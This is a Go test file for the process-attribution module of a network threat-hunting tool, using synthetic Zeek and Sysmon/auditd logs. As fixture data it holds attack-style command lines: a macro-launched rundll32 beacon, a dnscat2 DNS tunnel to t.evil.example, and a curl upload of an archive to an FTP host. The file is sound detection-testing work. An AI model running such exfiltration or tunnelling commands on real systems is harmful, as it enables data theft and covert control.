package attrib_test

import (
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/sluice-hunt/sluice/attrib"
	"github.com/sluice-hunt/sluice/detect"
	"github.com/sluice-hunt/sluice/detect/altproto"
	"github.com/sluice-hunt/sluice/detect/beacon"
	"github.com/sluice-hunt/sluice/detect/detecttest"
	"github.com/sluice-hunt/sluice/event"
	"github.com/sluice-hunt/sluice/finding"
	"github.com/sluice-hunt/sluice/synth"
)

const connHeader = "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tconn\n#open\t2026-03-05-09-00-00\n" +
	"#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\torig_bytes\tresp_bytes\tconn_state\tlocal_orig\tlocal_resp\tmissed_bytes\thistory\torig_pkts\torig_ip_bytes\tresp_pkts\tresp_ip_bytes\ttunnel_parents\n" +
	"#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tinterval\tcount\tcount\tstring\tbool\tbool\tcount\tstring\tcount\tcount\tcount\tcount\tset[string]\n"

// writeCase writes a Zeek conn.log and the Sysmon events (XML, one a line) of the same host:
// rundll32.exe (started by winword.exe) calling 203.0.113.50:443 every minute for an hour, and
// backup.exe sending 12 MB six times to 198.51.100.21:21, each connection logged by both the
// sensor and the host (Sysmon's time 150 ms after Zeek's). Chrome on the same host calls the
// beacon's server once, from another port, to show the match is by port and process.
func writeCase(t *testing.T) string {
	dir := t.TempDir()
	t0 := time.Date(2026, 3, 5, 9, 0, 0, 0, time.UTC)
	const host, ip = "WS-ATTRIB", "192.168.56.40"
	word := synth.SysmonProc{Computer: host, GUID: "AB000000-0000-0000-0000-000000000001", PID: 700, Image: `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`,
		CommandLine: `"WINWORD.EXE" /n C:\Users\eve\Downloads\invoice.docm`, User: `CORP\eve`}
	rundll := synth.SysmonProc{Computer: host, GUID: "AB000000-0000-0000-0000-000000000002", PID: 812, Image: `C:\Windows\System32\rundll32.exe`,
		CommandLine: `rundll32.exe C:\Users\eve\AppData\Roaming\upd.dll,Start`, User: `CORP\eve`, ParentGUID: word.GUID, ParentPID: word.PID,
		ParentImage: word.Image, ParentCommandLine: word.CommandLine}
	backup := synth.SysmonProc{Computer: host, GUID: "AB000000-0000-0000-0000-000000000003", PID: 905, Image: `C:\Tools\backup.exe`,
		CommandLine: `backup.exe /all`, User: `CORP\svc-backup`}
	chrome := synth.SysmonProc{Computer: host, GUID: "AB000000-0000-0000-0000-000000000004", PID: 990, Image: `C:\Program Files\Google\Chrome\Application\chrome.exe`,
		CommandLine: `chrome.exe`, User: `CORP\eve`}
	var xml, conn strings.Builder
	conn.WriteString(connHeader)
	add := func(p synth.SysmonProc, ts time.Time, sport int, dst string, dport int, out int64) {
		fmt.Fprintf(&conn, "%d.%06d\tC%017d\t%s\t%d\t%s\t%d\ttcp\t-\t1.000000\t%d\t300\tSF\t-\t-\t0\tShADadFf\t10\t%d\t5\t500\t-\n",
			ts.Unix(), ts.Nanosecond()/1000, sport, ip, sport, dst, dport, out, out+400)
		xml.WriteString(synth.WinXML(synth.SysmonConnect(p, ts.Add(150*time.Millisecond), "tcp", ip, sport, dst, dport)) + "\n")
	}
	for _, p := range []synth.SysmonProc{word, rundll, backup, chrome} {
		xml.WriteString(synth.WinXML(synth.SysmonProcess(p, t0.Add(-time.Minute))) + "\n")
	}
	for i := range 60 {
		add(rundll, t0.Add(time.Duration(i)*time.Minute), 51000+i, "203.0.113.50", 443, 1200)
	}
	add(chrome, t0.Add(90*time.Second), 52000, "203.0.113.50", 443, 800)
	for i := range 6 {
		add(backup, t0.Add(time.Duration(5*i)*time.Minute+30*time.Second), 53000+i, "198.51.100.21", 21, 12_000_000)
	}
	for name, s := range map[string]string{"conn.log": conn.String(), "sysmon.xml": xml.String()} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(s), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

func byDetection(fs []finding.Finding, id string) *finding.Finding {
	for i := range fs {
		if fs[i].Detection == id {
			return &fs[i]
		}
	}
	return nil
}

// TestAnnotate: network findings from Zeek name the host process behind their connections:
// by 5-tuple when the evidence kept source ports (alt-protocol-volume), by flow otherwise
// (beacon), with the command line, parent and user from the process start.
func TestAnnotate(t *testing.T) {
	dir := writeCase(t)
	res := detecttest.HuntResult(t, []detect.Detection{beacon.New(), altproto.New()}, dir)
	b := byDetection(res.Findings, beacon.ID)
	if b == nil || len(b.Processes) == 0 {
		t.Fatalf("no beacon finding with a process: %+v", res.Findings)
	}
	p := b.Processes[0]
	if !strings.HasSuffix(p.Image, `rundll32.exe`) || !strings.Contains(p.CommandLine, "upd.dll") || !strings.HasSuffix(p.ParentImage, "WINWORD.EXE") ||
		p.User != `CORP\eve` || p.Host != "WS-ATTRIB" || p.By != "flow" || p.Records != 60 || p.Of != 61 || p.PID != 812 {
		t.Errorf("beacon: %+v", p)
	}
	if len(b.Processes) != 2 || !strings.HasSuffix(b.Processes[1].Image, "chrome.exe") || b.Processes[1].Records != 1 {
		t.Errorf("beacon's second process: %+v", b.Processes)
	}
	if b.Entities.Process != "rundll32.exe" || b.Entities.Host != "WS-ATTRIB" {
		t.Errorf("beacon entities: %+v", b.Entities)
	}
	a := byDetection(res.Findings, altproto.ID)
	if a == nil || len(a.Processes) != 1 {
		t.Fatalf("alt-protocol-volume: %+v", a)
	}
	if q := a.Processes[0]; !strings.HasSuffix(q.Image, "backup.exe") || q.By != "5-tuple" || q.Records != len(a.Evidence) || q.User != `CORP\svc-backup` {
		t.Errorf("alt-protocol-volume: %+v", q)
	}
}

// TestAnnotateDNS: a finding about a domain (a DNS tunnel from a client address) names the
// process whose lookups (Sysmon 22) under that domain the host made in the finding's window;
// the host is known by the address its connections came from.
func TestAnnotateDNS(t *testing.T) {
	b := attrib.NewBuilder()
	ts := event.Time(1_700_000_000_000_000)
	host := func(op event.HostOp, dt int64, image, query string) *event.Host {
		e := &event.Host{Meta: event.Meta{TS: ts + event.Time(dt)}, Op: op, Computer: "WS9", Initiated: 1,
			Proc: event.Proc{Image: image, GUID: "G-" + image, PID: 42}, Query: query}
		if op == event.OpConnect {
			e.Flow = event.Flow{Src: netip.MustParseAddr("10.1.1.9"), SrcPort: 50000, Dst: netip.MustParseAddr("10.1.1.53"), DstPort: 53}
		}
		return e
	}
	b.ObserveHost(host(event.OpConnect, 0, `C:\Windows\System32\svchost.exe`, ""))
	b.ObserveHost(&event.Host{Meta: event.Meta{TS: ts - 1e6}, Op: event.OpProcess, Computer: "WS9",
		Proc:   event.Proc{Image: `C:\Users\x\dnscat2.exe`, GUID: `G-C:\Users\x\dnscat2.exe`, PID: 42, CommandLine: "dnscat2.exe --dns domain=t.evil.example"},
		Parent: event.Proc{Image: `C:\Windows\System32\cmd.exe`}})
	for i := range 30 {
		b.ObserveHost(host(event.OpDNS, int64(i)*1e6, `C:\Users\x\dnscat2.exe`, fmt.Sprintf("%04x.t.evil.example", i)))
	}
	b.ObserveHost(host(event.OpDNS, 5e6, `C:\Program Files\Mozilla Firefox\firefox.exe`, "www.example.com"))
	x := b.Index()
	fs := []finding.Finding{{Entities: finding.Entities{Src: "10.1.1.9", Domain: "evil.example"}, First: ts, Last: ts + 29e6}}
	x.Annotate(fs, attrib.DefaultOptions())
	if len(fs[0].Processes) != 1 {
		t.Fatalf("%+v", fs[0].Processes)
	}
	p := fs[0].Processes[0]
	if p.By != "dns" || p.Records != 30 || p.Of != 30 || !strings.Contains(p.CommandLine, "dnscat2") || !strings.HasSuffix(p.ParentImage, "cmd.exe") {
		t.Errorf("%+v", p)
	}
}

// TestAnnotateDestination: auditd's connect names only the remote end; a finding's records
// match it by destination address, port and time.
func TestAnnotateDestination(t *testing.T) {
	b := attrib.NewBuilder()
	ts := event.Time(1_700_000_000_000_000)
	b.ObserveHost(&event.Host{Meta: event.Meta{TS: ts - 5e6}, Op: event.OpProcess, Log: "auditd", Computer: "build-07",
		Proc: event.Proc{Image: "/usr/bin/curl", PID: 2156, CommandLine: "curl --upload-file r.tgz ftp://198.51.100.90/"}, Parent: event.Proc{PID: 2150}})
	for i := range 3 {
		b.ObserveHost(&event.Host{Meta: event.Meta{TS: ts + event.Time(i)*60e6 + 3e5}, Op: event.OpConnect, Log: "auditd", Computer: "build-07", Initiated: 1,
			Proc: event.Proc{Image: "/usr/bin/curl", PID: 2156}, Flow: event.Flow{Dst: netip.MustParseAddr("198.51.100.90"), DstPort: 21}})
	}
	x := b.Index()
	fs := []finding.Finding{{Entities: finding.Entities{Src: "10.9.9.9", Dst: "198.51.100.90", DstPort: 21}, First: ts, Last: ts + 120e6,
		Evidence: []finding.Evidence{{TS: ts}, {TS: ts + 60e6}, {TS: ts + 120e6}}}}
	x.Annotate(fs, attrib.DefaultOptions())
	if len(fs[0].Processes) != 1 {
		t.Fatalf("%+v", fs[0].Processes)
	}
	if p := fs[0].Processes[0]; p.By != "destination" || p.Records != 3 || p.Of != 3 || p.Host != "build-07" || !strings.Contains(p.CommandLine, "upload-file") {
		t.Errorf("%+v", p)
	}
}
